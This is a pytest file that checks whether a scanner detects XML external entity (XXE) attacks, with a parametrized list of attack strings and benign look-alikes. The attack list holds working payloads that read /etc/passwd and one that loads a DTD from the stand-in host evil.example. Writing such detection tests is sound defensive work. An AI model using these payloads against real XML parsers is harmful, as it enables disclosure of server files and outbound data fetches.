from __future__ import annotations

import pytest

ATTACKS = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE x [<!ENTITY % p PUBLIC "a" "http://evil.example/x.dtd"> %p;]>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
]
BENIGN = [
    '<?xml version="1.0"?><order><id>1</id></order>',
    "<!DOCTYPE html><html></html>",
    "entity relationship diagram",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_detects_xxe(scan, value):
    assert "xxe" in scan(value)


@pytest.mark.parametrize("value", BENIGN)
def test_ignores_benign_look_alikes(scan, value):
    assert "xxe" not in scan(value)
